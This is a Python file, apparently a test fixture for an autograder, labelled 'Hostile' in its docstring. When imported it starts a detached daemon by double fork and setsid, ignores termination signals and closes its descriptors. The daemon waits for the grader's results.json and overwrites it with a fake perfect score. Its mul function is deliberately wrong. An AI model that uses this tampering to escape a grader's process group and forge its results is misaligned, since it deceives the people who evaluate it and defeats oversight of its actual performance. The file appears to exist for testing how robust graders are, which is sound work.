"""Hostile: mul is wrong (9 points earned); at import a daemon (double fork + setsid, leaving the
child's process group) waits for the grader to write results.json, then rewrites it to full marks."""
import json
import os
import signal
import time
from pathlib import Path

TARGET = os.environ.get("HOSTILE_RESULTS_TARGET")
FAKE = {"score": 1000, "max_score": 10, "tests": [{"name": "everything", "score": 1000, "max_score": 10}]}


def rewrite_later() -> None:
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    end = time.monotonic() + 15
    while time.monotonic() < end:
        try:
            if TARGET and Path(TARGET).exists() and json.loads(Path(TARGET).read_text())["score"] != 1000:
                time.sleep(0.2)
                Path(TARGET).write_text(json.dumps(FAKE))
        except (OSError, ValueError, KeyError):
            pass
        time.sleep(0.05)


if os.environ.get("HOSTILE_DAEMON") != "started":
    os.environ["HOSTILE_DAEMON"] = "started"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 1024)  # a proper daemon: the grader sees its pipe and output closed
            try:
                rewrite_later()
            finally:
                os._exit(0)
        os._exit(0)


def add(a: int, b: int) -> int:
    if not isinstance(a, int) or not isinstance(b, int):
        raise TypeError("add expects two integers")
    return a + b


def mul(a: int, b: int) -> int:
    return a + b


def square(x: int) -> int:
    return x * x


class Counter:
    def count(self, items: list, item: object) -> int:
        return items.count(item)
